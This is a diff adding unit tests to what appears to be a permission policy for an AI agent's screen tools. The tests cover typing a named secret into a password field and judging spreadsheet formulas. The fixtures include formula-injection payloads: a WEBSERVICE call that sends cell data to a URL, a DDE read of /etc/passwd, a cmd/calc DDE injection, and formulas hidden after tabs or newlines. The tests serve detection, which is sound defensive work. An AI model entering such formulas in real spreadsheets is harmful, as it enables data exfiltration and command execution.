@@ -133,6 +133,34 @@ it.each(['Password', 'Kennwort:', 'Mot de passe', 'PIN', '密码', 'API key'])(
   },
 );
 
+describe('a secret by its name', () => {
+  const text = { secret: 'crm-login' };
+  const on = placed('mousepad', { window: 'Log in', control: { id: '1', type: 'Edit', name: 'Password' } });
+
+  it('is put into a field when a person has said so, who is told which, where and in which window', () =>
+    expect(judged('set_edit_text', { text }, on)).toMatchObject({
+      decision: 'approve',
+      grantable: false,
+      rule: 'screen.secret',
+      reasons: [
+        'It puts the secret "crm-login" of the device into the field "Password" of the window "Log in" of "mousepad".',
+      ],
+    }));
+
+  it.each<[string, string, PolicyDecision]>([
+    ['a program that is not listed', 'evil', 'approve'],
+    ['a terminal', 'xterm', 'deny'],
+  ])('in %s', (_, program, decision) =>
+    expect(decided('set_edit_text', { text }, { ...on, application: program })).toBe(decision),
+  );
+
+  it('goes in no other way', () => {
+    expect(decided('keyboard_input', { keys: '{"secret": "crm-login"}' }, on)).toBe('deny');
+    expect(decided('set_edit_text', { text: 'crm-login' }, on)).toBe('deny');
+    expect(decided('texts', { text }, on)).toBe('deny');
+  });
+});
+
 describe('a click', () => {
   const button = (name: string) => placed('mousepad', { control: { id: '1', type: 'Button', name } });
   it.each([
@@ -239,6 +267,46 @@ describe('tools of a spreadsheet', () => {
   ])('ask a person like the network for %s', (cell) =>
     expect(write(cell)).toMatchObject({ class: 'network', decision: 'approve', grantable: false }),
   );
+  it.each([
+    '=SUM(A1:A9)',
+    '=A1+B2',
+    '="x"&A1',
+    '=IF(A1>2,"x","y")',
+    '-5',
+    '+49 30 1234',
+    'https://example.org is a text',
+    'Umsatz (2024)',
+  ])('take %j from a field and from keys unasked', (text) => {
+    expect(decided('set_edit_text', { text }, sheet)).toBe('log');
+    expect(decided('keyboard_input', { keys: `${text}{ENTER}` }, sheet)).toBe('log');
+  });
+  it.each([
+    '=WEBSERVICE("http://example.org/" & A1)',
+    '=HYPERLINK("x")',
+    '=DDE("soffice";"/etc/passwd";"A1")',
+    "=cmd|' /C calc'!A0",
+    '=A1&"vnd.sun.star.script:x"',
+    'a cell\n=INDIRECT("x")',
+    'a cell\t=INDIRECT("x")',
+  ])('ask like the network for %j, set or typed', (text) => {
+    const asked = { class: 'network', decision: 'approve', grantable: false, rule: 'screen.formula' };
+    expect(judged('set_edit_text', { text }, sheet)).toMatchObject(asked);
+    expect(judged('keyboard_input', { keys: `{HOME}${text}{ENTER}` }, sheet)).toMatchObject(asked);
+  });
+  it.each(['=WEBSER', '="WEB', '=SUM(A1', 'VICE(A1)', '=A1&', 'WEBSERVICE', '='])(
+    'ask for %j, which is a part of something',
+    (text) => {
+      expect(judged('set_edit_text', { text }, sheet)).toMatchObject({ decision: 'approve', rule: 'screen.formula' });
+      expect(decided('keyboard_input', { keys: text }, sheet)).toBe('approve');
+    },
+  );
+  it.each(['=WEB{BACK}BSERVICE', '{VK_CONTROL}a=WEBSER'])('ask for the keys %s', (keys) =>
+    expect(decided('keyboard_input', { keys }, sheet)).toBe('approve'),
+  );
+  it('are those of a spreadsheet: a text editor takes all that', () =>
+    expect(decided('keyboard_input', { keys: '=WEBSERVICE("http://example.org/"){ENTER}' }, placed('mousepad'))).toBe(
+      'log',
+    ));
   it.each<[string, Record<string, Json>, PolicyDecision]>([
     ['where its device has a place for it', { file_name: 'sum.xlsx' }, 'log'],
     ['in a directory that is named', { file_dir: '/srv', file_name: 'sum.xlsx' }, 'approve'],
